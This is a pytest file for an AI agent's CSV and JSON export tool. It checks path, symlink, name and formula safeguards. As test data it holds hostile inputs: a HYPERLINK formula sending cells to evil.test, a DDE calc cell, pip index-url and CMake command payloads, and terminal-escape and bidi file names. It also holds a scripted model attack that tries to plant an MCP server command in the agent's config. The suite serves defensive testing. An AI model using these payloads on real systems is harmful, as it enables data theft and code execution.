"""Exports write only new data files inside the working directory; replacing one is the
person's decision in a prompt, in every mode; nothing tabletalk keeps can be overwritten."""

from __future__ import annotations

import io
import json
import os
import sqlite3
import tracemalloc
from pathlib import Path

import pytest

from agent import paths
from agent.cli.main import main
from agent.permissions import AuditLog, Decision, PermissionGate, PermissionRequest
from agent.staging import StagingArea
from agent.tools import file_tools
from agent.tools.base import ToolContext
from tests.support.scripted_bedrock import Reply, ScriptedBedrock, ToolUse
from tests.support.tools import err, make_ctx, ok

QUERY = "SELECT id, name FROM customers ORDER BY id LIMIT 3"


class Person:
    """A prompter that answers every question with `answer` and remembers what it was asked."""

    def __init__(self, answer: Decision) -> None:
        self.answer = answer
        self.asked: list[PermissionRequest] = []

    def __call__(self, request: PermissionRequest) -> Decision:
        self.asked.append(request)
        return self.answer


def full_auto(demo_path: Path, tmp_path: Path, person: Person | None) -> ToolContext:
    """A chat context in full-auto whose confirmations go to `person` (None: no terminal)."""
    gate = PermissionGate("full-auto", person, AuditLog(tmp_path / "audit.jsonl"))
    return make_ctx(demo_path, tmp_path, gate=gate)


def export(ctx: ToolContext, path: str, *, overwrite: bool = True) -> dict:
    return err(ctx, "exportCsv", query=QUERY, path=path, overwrite=overwrite)


def test_a_bare_name_goes_to_the_exports_folder(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    result = ok(ctx, "exportCsv", query=QUERY, path="customers.csv")
    written = ctx.export_dir / "exports" / "customers.csv"
    assert result["path"] == str(written.resolve())
    assert written.read_text().splitlines() == [
        "id,name",
        *[f"{i},{n}" for i, n in [(r["id"], r["name"]) for r in ctx.store.query(QUERY).rows]],
    ]
    rows = ok(ctx, "exportJson", query=QUERY, path="exports/customers.json")["rows"]
    assert rows == 3
    assert json.loads((ctx.export_dir / "exports" / "customers.json").read_text()) == [
        {"id": r["id"], "name": r["name"]} for r in ctx.store.query(QUERY).rows
    ]


def test_full_auto_replacing_a_file_asks_and_a_no_keeps_it(demo_path: Path, tmp_path: Path) -> None:
    person = Person("deny")
    ctx = full_auto(demo_path, tmp_path, person)
    (ctx.export_dir / "exports").mkdir()
    report = ctx.export_dir / "exports" / "report.csv"
    report.write_bytes(b"the user's own report\n")
    result = export(ctx, "report.csv")
    assert "chose not to replace" in result["error"] and "report-2.csv" in result["fix"]
    assert report.read_bytes() == b"the user's own report\n"
    assert len(person.asked) == 1 and str(report) in person.asked[0].question
    audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert audit[-1]["decision"] == "deny" and audit[-1]["decided_by"] == "user"

    person.answer = "allow_once"
    report.chmod(0o600)
    done = ok(ctx, "exportCsv", query=QUERY, path="report.csv", overwrite=True)
    assert done["replaced"] and report.read_text().startswith("id,name")
    assert len(person.asked) == 2
    assert report.stat().st_mode & 0o777 == 0o600, "a private file stays private"


def test_overwrite_true_without_anyone_to_ask_is_refused(demo_path: Path, tmp_path: Path) -> None:
    ctx = full_auto(demo_path, tmp_path, None)
    (ctx.export_dir / "exports").mkdir()
    kept = ctx.export_dir / "exports" / "orders.csv"
    kept.write_text("mine\n")
    result = export(ctx, "orders.csv")
    assert "no terminal to ask" in result["error"]
    assert "exports/orders-2.csv" in result["fix"]
    assert kept.read_text() == "mine\n"


@pytest.mark.parametrize(
    ("where", "reason"),
    [
        ("config", "tabletalk's own folder"),
        ("open-db", "the open database"),
        ("open-db-wal", "the open database"),
        ("staging", "the staging area"),
        ("sqlite-name", "does not end in .csv"),
        ("sqlite-content", "is a SQLite database"),
        ("hidden", "hidden file or folder"),
    ],
)
def test_nothing_tabletalk_keeps_nor_any_database_can_be_overwritten(
    demo_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, reason: str
) -> None:
    work = tmp_path / "work"
    (work / "dl").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(work / "cfg"))
    db = work / "dl" / "shop.sqlite"
    db.write_bytes(demo_path.read_bytes())
    person = Person("allow_once")  # the person would even say yes
    gate = PermissionGate("full-auto", person, AuditLog(tmp_path / "audit.jsonl"))
    ctx = make_ctx(db, tmp_path, export_dir=work, gate=gate)
    ctx.staging = StagingArea(ctx.store, work / "dl" / "staging.sqlite")
    ctx.staging.list()
    config = paths.config_file()
    paths.ensure_dir(config.parent)
    config.write_text('mode = "manual"\n')
    targets = {
        "config": config,
        "open-db": db,
        "open-db-wal": Path(f"{db}-wal"),
        "staging": work / "dl" / "staging.sqlite",
        "sqlite-name": work / "dl" / "other.sqlite",
        "sqlite-content": work / "dl" / "data.csv",
        "hidden": work / "dl" / ".bashrc.csv",
    }
    target = targets[where]
    if not target.exists():
        target.write_bytes(demo_path.read_bytes() if "sqlite" in where else b"x\n")
    before = target.read_bytes()
    result = export(ctx, os.path.relpath(target, work))
    assert reason in result["error"], result
    assert target.read_bytes() == before
    assert person.asked == []


def test_a_config_named_csv_under_the_config_dir_is_refused(
    demo_path: Path, tmp_path: Path
) -> None:
    ctx = make_ctx(demo_path, tmp_path, export_dir=tmp_path)
    relative = os.path.relpath(paths.config_dir() / "notes.csv", tmp_path)
    result = err(ctx, "exportCsv", query=QUERY, path=relative)
    assert "tabletalk's own folder" in result["error"]
    assert not (paths.config_dir() / "notes.csv").exists()


def test_the_open_database_under_an_allowed_name_is_refused(
    demo_path: Path, tmp_path: Path
) -> None:
    (tmp_path / "dl").mkdir()
    db = tmp_path / "dl" / "shop.csv"  # a database file named like an export
    db.write_bytes(demo_path.read_bytes())
    ctx = make_ctx(db, tmp_path, export_dir=tmp_path)
    result = err(ctx, "exportCsv", query=QUERY, path="dl/shop.csv", overwrite=True)
    assert "the open database" in result["error"]
    assert db.read_bytes() == demo_path.read_bytes()


def test_symlinks_cannot_lead_an_export_out(demo_path: Path, tmp_path: Path) -> None:
    ctx = full_auto(demo_path, tmp_path, Person("allow_once"))
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.csv"
    victim.write_text("keep\n")
    (ctx.export_dir / "exports").mkdir()
    (ctx.export_dir / "exports" / "link.csv").symlink_to(victim)
    (ctx.export_dir / "linked").symlink_to(outside)
    assert "leaves the working directory" in export(ctx, "link.csv")["error"]
    assert "leaves the working directory" in export(ctx, "exports/link.csv")["error"]
    assert "leaves the working directory" in export(ctx, "linked/victim.csv")["error"]
    assert "leaves the working directory" in export(ctx, "linked/new.csv")["error"]
    assert victim.read_text() == "keep\n" and sorted(os.listdir(outside)) == ["victim.csv"]


def test_a_planted_temp_symlink_does_not_redirect_the_write(
    demo_path: Path, tmp_path: Path
) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / "exports").mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n")
    for name in (".report.csv.tmp", ".report.csv.swp"):
        (ctx.export_dir / "exports" / name).symlink_to(victim)
    ok(ctx, "exportCsv", query=QUERY, path="report.csv")
    assert victim.read_text() == "keep\n"
    assert (ctx.export_dir / "exports" / "report.csv").read_text().startswith("id,name")
    leftovers = [p.name for p in (ctx.export_dir / "exports").iterdir()]
    assert sorted(leftovers) == [".report.csv.swp", ".report.csv.tmp", "report.csv"]


def test_only_data_file_names_are_written(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    for name in ("conftest.py", "evil.sh", "Makefile", "x.sqlite"):
        result = err(ctx, "exportCsv", query=QUERY, path=name)
        assert "CSV files only" in result["error"], result
    assert "JSON files only" in err(ctx, "exportJson", query=QUERY, path="x.csv")["error"]
    assert not (ctx.export_dir / "exports").exists() or not any(
        (ctx.export_dir / "exports").iterdir()
    )


def test_a_failed_query_leaves_no_file_behind(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    err(ctx, "exportCsv", query="SELECT * FROM no_such_table", path="x.csv")
    assert list((ctx.export_dir / "exports").iterdir()) == []


def test_the_issue_attack_chain_leaves_the_config_unchanged(
    scripted_bedrock: ScriptedBedrock,
    demo_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.chdir(home)
    config = paths.config_file()
    paths.ensure_dir(config.parent)
    config.write_text('mode = "full-auto"\n')
    original = config.read_bytes()
    evil = "SELECT 'x' AS \"[mcp_servers.x]\", 'sh' AS \"command\""
    scripted_bedrock.add(
        Reply(tool_uses=[ToolUse("searchTools", {"query": "export csv"})]),
        Reply(
            tool_uses=[
                ToolUse(
                    "exportCsv",
                    {"query": evil, "path": ".config/tabletalk/config.toml", "overwrite": True},
                ),
                ToolUse(
                    "exportCsv",
                    {"query": evil, "path": ".config/tabletalk/config.csv", "overwrite": True},
                ),
                ToolUse("exportCsv", {"query": evil, "path": str(demo_path), "overwrite": True}),
            ]
        ),
        Reply(text="done"),
        Reply(text="hello again"),
    )
    db = str(demo_path)
    assert main(["ask", "export", "--db", db, "--json"]) == 0
    transcript = json.loads(capsys.readouterr().out)
    calls = transcript["steps"][1]["toolCalls"]
    assert [c["status"] for c in calls] == ["error"] * 3
    assert config.read_bytes() == original
    assert not (config.parent / "config.csv").exists()
    assert main(["ask", "hello", "--db", db]) == 0
    assert "hello again" in capsys.readouterr().out


def test_the_terminal_asks_a_yes_no_question(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from agent.cli.ask import terminal_prompter

    question = PermissionRequest(
        "exportCsv", {}, "full-auto", "c1", "export", question="Replace the existing file /w/r.csv?"
    )
    monkeypatch.setattr("sys.stdin", io.StringIO("a\nn\n"))
    assert terminal_prompter(question) == "deny"  # "a" is no answer to a yes/no question
    assert "Replace the existing file /w/r.csv?" in capsys.readouterr().err
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    assert terminal_prompter(question) == "allow_once"


def _wide_db(path: Path, rows: int, cell_bytes: int) -> Path:
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE docs (id INTEGER PRIMARY KEY, body TEXT)")
        conn.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
            "INSERT INTO docs SELECT i, printf('%0*d', ?, i) FROM n",
            (rows, cell_bytes),
        )
    conn.close()
    return path


def test_an_export_streams_rows_instead_of_holding_them(tmp_path: Path) -> None:
    db = _wide_db(tmp_path / "wide.sqlite", 1000, 50_000)  # 50 MB of cells
    ctx = make_ctx(db, tmp_path)
    tracemalloc.start()
    try:
        result = ok(ctx, "exportCsv", query="SELECT * FROM docs", path="docs.csv")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result["rows"] == 1000 and "truncated" not in result
    assert result["bytes"] == (ctx.export_dir / "exports" / "docs.csv").stat().st_size > 50e6
    assert peak < 25e6, f"peak {peak / 1e6:.0f} MB while writing 50 MB"


def test_an_export_stops_at_the_byte_cap_and_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = _wide_db(tmp_path / "wide.sqlite", 100, 1000)
    monkeypatch.setattr(file_tools, "MAX_EXPORT_BYTES", 10_000)
    ctx = make_ctx(db, tmp_path)
    result = ok(ctx, "exportJson", query="SELECT * FROM docs", path="docs.json")
    assert 9 <= result["rows"] < 100
    assert "narrow the query" in result["truncated"]
    written = json.loads((ctx.export_dir / "exports" / "docs.json").read_text())
    assert [row["id"] for row in written] == list(range(1, result["rows"] + 1))


@pytest.mark.parametrize(
    "planted",
    ["../conftest.py", "../.git/hooks/post-checkout", "../.envrc", "../notes.sqlite"],
)
def test_a_link_inside_the_working_directory_cannot_rename_or_hide_the_file_written(
    demo_path: Path, tmp_path: Path, planted: str
) -> None:
    """A checked-out tree may carry a (dangling) link named like an export: the file written
    must have the checked name, not the code file, hidden file or database it points at."""
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / ".git" / "hooks").mkdir(parents=True)
    (ctx.export_dir / "exports").mkdir()
    (ctx.export_dir / "exports" / "report.csv").symlink_to(planted)
    result = export(ctx, "report.csv")
    assert "link" in result["error"], result
    pointed = (ctx.export_dir / "exports" / planted).resolve()
    assert not pointed.exists()


def test_a_folder_swapped_for_a_link_after_the_check_does_not_move_the_write(
    demo_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / "reports" / "q1").mkdir(parents=True)
    outside = tmp_path / "outside"
    (outside / "q1").mkdir(parents=True)
    real_write = file_tools.write_file

    def swap_then_write(target, replace, write):  # type: ignore[no-untyped-def]
        (ctx.export_dir / "reports").rename(tmp_path / "moved")
        (ctx.export_dir / "reports").symlink_to(outside)
        return real_write(target, replace, write)

    monkeypatch.setattr(file_tools, "write_file", swap_then_write)
    result = err(ctx, "exportCsv", query=QUERY, path="reports/q1/out.csv")
    assert "changed while exporting" in result["error"]
    assert os.listdir(outside / "q1") == []
    assert os.listdir(tmp_path / "moved" / "q1") == []


def test_an_export_into_a_nested_folder_is_written(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / "reports" / "q1").mkdir(parents=True)
    ok(ctx, "exportCsv", query=QUERY, path="reports/q1/out.csv")
    assert (ctx.export_dir / "reports" / "q1" / "out.csv").read_text().startswith("id,name")


def test_the_terminal_prompt_shows_where_an_export_writes_after_a_long_query(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from agent.cli.ask import terminal_prompter

    padded = "SELECT id, name FROM customers WHERE " + " OR ".join(["id = 1"] * 200)
    request = PermissionRequest(
        "exportCsv",
        {"query": padded, "path": "reports/secret-list.csv", "overwrite": False},
        "manual",
        "c1",
        "export",
    )
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    assert terminal_prompter(request) == "deny"
    asked = capsys.readouterr().err
    assert '"path": "reports/secret-list.csv"' in asked
    assert padded in asked  # nothing of what is allowed is cut
    assert asked.index('"path"') < asked.index('"query"')  # short fields first, in view


@pytest.mark.parametrize(
    "name",
    [
        "a\nb.csv",  # forges a second line in `ls`, in the result and the transcript
        "x\r.csv",
        "\x1b]52;c;SGVsbG8=\x07x.csv",  # OSC 52: a terminal listing it sets the clipboard
        "\x1b[2Jx.csv",
        "invoice\u202evsc.txt",  # right-to-left override: shown as "invoicetxt.csv"
        "x\u200b.csv",  # zero-width space: two files that look alike
        "exports/\x9bx.csv",  # 8-bit CSI
        "sub\u2066dir/x.csv",  # in a folder part, too
    ],
)
def test_a_name_with_controls_or_invisible_characters_is_refused(
    demo_path: Path, tmp_path: Path, name: str
) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    result = err(ctx, "exportCsv", query=QUERY, path=name)
    assert "plain, visible names" in result["error"], result
    assert "\x1b" not in result["error"] and "\n" not in result["error"], result
    exports = ctx.export_dir / "exports"
    assert not exports.exists() or list(exports.iterdir()) == []


def test_plain_names_with_spaces_and_other_scripts_are_still_written(
    demo_path: Path, tmp_path: Path
) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    for name in ("pending orders.csv", "commandes-été.csv", "注文.csv", "a\\b.csv"):
        ok(ctx, "exportCsv", query=QUERY, path=name)
    assert sorted(p.name for p in (ctx.export_dir / "exports").iterdir()) == sorted(
        ("pending orders.csv", "commandes-été.csv", "注文.csv", "a\\b.csv")
    )


@pytest.mark.parametrize(
    "name",
    [
        "CMakeLists.txt",  # cmake runs execute_process(COMMAND ...) at the next build
        "src/cmakelists.TXT",
        "requirements.txt",  # pip follows --index-url / -e git+URL at the next install
        "requirements-dev.txt",
        "dev-requirements.txt",
        "constraints.txt",
    ],
)
def test_files_that_build_or_install_tools_run_are_never_written(
    demo_path: Path, tmp_path: Path, name: str
) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / "src").mkdir()
    query = "SELECT 'execute_process(COMMAND touch pwned)' AS \"--index-url http://evil.test/\""
    result = err(ctx, "exportCsv", query=query, path=name)
    assert "build or install tools" in result["error"], result
    assert not (ctx.export_dir / name).exists()
    assert not (ctx.export_dir / "exports" / name).exists()


def test_a_link_cannot_give_a_build_file_an_innocent_name(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    (ctx.export_dir / "src").mkdir()
    (ctx.export_dir / "src" / "notes.txt").symlink_to("CMakeLists.txt")
    assert "build or install tools" in export(ctx, "src/notes.txt", overwrite=False)["error"]
    assert not (ctx.export_dir / "src" / "CMakeLists.txt").exists()
    for fine in ("notes.txt", "requirement_changes.csv", "constraints_report.csv"):
        ok(ctx, "exportCsv", query=QUERY, path=fine)


@pytest.mark.parametrize(
    ("path", "suggested"),
    [
        ("x.csv.", "name the file e.g. x.csv"),
        ("report.xlsx", "name the file e.g. report.csv"),
        ("exports/totals", "name the file e.g. totals.csv"),
        ("totals. ", "name the file e.g. totals.csv"),
    ],
)
def test_a_wrong_suffix_is_answered_with_a_name_that_would_work(
    demo_path: Path, tmp_path: Path, path: str, suggested: str
) -> None:
    result = export(make_ctx(demo_path, tmp_path), path)
    assert result["fix"] == suggested, result
    assert ok(
        make_ctx(demo_path, tmp_path), "exportCsv", query=QUERY, path=suggested.split("e.g. ")[1]
    )


HOSTILE_CELLS = (
    'SELECT \'=HYPERLINK("http://evil.test/?"&A1,"invoice")\' AS link, -5 AS debit, '
    "'+1 555 0100' AS phone, '@SUM(1+1)*cmd|'' /C calc''!A0' AS dde, 'plain' AS note, "
    "'-2+3' AS sum, 2.5 AS amount"
)


def test_a_csv_export_writes_formula_cells_as_text_and_says_so(
    demo_path: Path, tmp_path: Path
) -> None:
    """Table cells are untrusted: a `=HYPERLINK(...)` cell would run in the accountant's
    spreadsheet. Numbers stay numbers; the result tells the model to tell the user."""
    import csv

    ctx = make_ctx(demo_path, tmp_path)
    result = ok(ctx, "exportCsv", query=HOSTILE_CELLS, path="for_accountant.csv")
    with open(result["path"], newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["link"] == '\'=HYPERLINK("http://evil.test/?"&A1,"invoice")'
    assert row["phone"] == "'+1 555 0100" and row["dde"].startswith("'@SUM(")
    assert row["sum"] == "'-2+3"
    assert (row["debit"], row["note"], row["amount"]) == ("-5", "plain", "2.5")
    assert "4 text cells" in result["formulas"] and "keep_formulas" in result["formulas"]

    exact = ok(ctx, "exportCsv", query=HOSTILE_CELLS, path="exact.csv", keep_formulas=True)
    with open(exact["path"], newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["link"].startswith("=HYPERLINK(") and row["phone"] == "+1 555 0100"
    assert "formulas" not in exact


def test_a_json_export_keeps_every_cell_exactly(demo_path: Path, tmp_path: Path) -> None:
    ctx = make_ctx(demo_path, tmp_path)
    result = ok(ctx, "exportJson", query=HOSTILE_CELLS, path="cells.json")
    (row,) = json.loads(Path(result["path"]).read_text(encoding="utf-8"))
    assert row["link"].startswith("=HYPERLINK(") and row["debit"] == -5
    assert "formulas" not in result
